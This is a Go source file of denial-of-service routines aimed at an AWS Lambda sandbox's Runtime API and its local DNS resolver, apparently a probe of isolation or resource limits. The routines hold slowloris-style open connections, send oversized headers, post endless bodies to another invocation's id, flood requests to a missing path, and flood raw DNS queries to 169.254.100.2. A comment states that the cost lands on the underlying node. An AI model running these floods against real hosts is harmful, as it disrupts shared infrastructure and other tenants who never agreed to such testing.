package main

import (
	"bytes"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"strings"
	"time"
)

// floods go at the node through the Runtime API of this sandbox: what they cost is the node's.
func floods() map[string]func(*api, order) answer {
	return map[string]func(*api, order) answer{
		"API connections":  func(_ *api, o order) answer { return connections(o, "") },
		"API long headers": func(_ *api, o order) answer { return connections(o, "X-Flood: "+strings.Repeat("x", 900<<10)) },
		"API large answer": largeAnswer,
		"API questions":    questions,
		"resolver flood":   resolverFlood,
	}
}

// connections opens many, sends the beginning of a request on each, and never ends it.
func connections(o order, header string) answer {
	var open []net.Conn
	defer func() {
		for _, c := range open {
			c.Close()
		}
	}()
	var last error
	for range o.number("most") {
		conn, err := net.DialTimeout("tcp", os.Getenv("AWS_LAMBDA_RUNTIME_API"), time.Second)
		if err != nil {
			last = err
			continue
		}
		open = append(open, conn)
		_ = conn.SetWriteDeadline(time.Now().Add(200 * time.Millisecond))
		if _, err := fmt.Fprintf(conn, "GET /2018-06-01/runtime/invocation/next HTTP/1.1\r\nHost: x\r\n%s", header); err != nil {
			last = err
		}
	}
	return answer{Detail: fmt.Sprintf("%d connections, %v", len(open), last)}
}

// largeAnswer posts an answer without end for an event that is not its own, and one that is too large for its own.
func largeAnswer(a *api, o order) answer {
	block := bytes.Repeat([]byte("x"), 1<<20)
	var said []string
	for _, id := range []string{"11111111-2222-4333-8444-555555555555", a.id} {
		r, w := io.Pipe()
		go func() {
			for range o.number("mb") {
				if _, err := w.Write(block); err != nil {
					break
				}
			}
			w.Close()
		}()
		resp, err := http.Post(a.base+id+"/response", "application/json", r)
		r.Close()
		if err != nil {
			said = append(said, err.Error())
			continue
		}
		resp.Body.Close()
		said = append(said, resp.Status)
	}
	return answer{Detail: strings.Join(said, ", ")}
}

// questions asks for what is not there, as fast as it can.
func questions(a *api, o order) answer {
	for range o.number("most") {
		resp, err := http.Get(strings.TrimSuffix(a.base, "runtime/invocation/") + "nothing")
		if err != nil {
			return failed(err)
		}
		_, _ = io.Copy(io.Discard, resp.Body) // it is about the question
		resp.Body.Close()
	}
	return answer{}
}

// resolverFlood asks for as many names as it can.
func resolverFlood(_ *api, o order) answer {
	conn, err := net.Dial("udp", "169.254.100.2:53")
	if err != nil {
		return failed(err)
	}
	defer conn.Close()
	for i := range o.number("most") {
		name := fmt.Sprintf("n%d", i)
		q := append([]byte{0, 7, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0, byte(len(name))}, name...)
		if _, err := conn.Write(append(q, 0, 0, 1, 0, 1)); err != nil {
			return failed(err)
		}
	}
	return answer{}
}
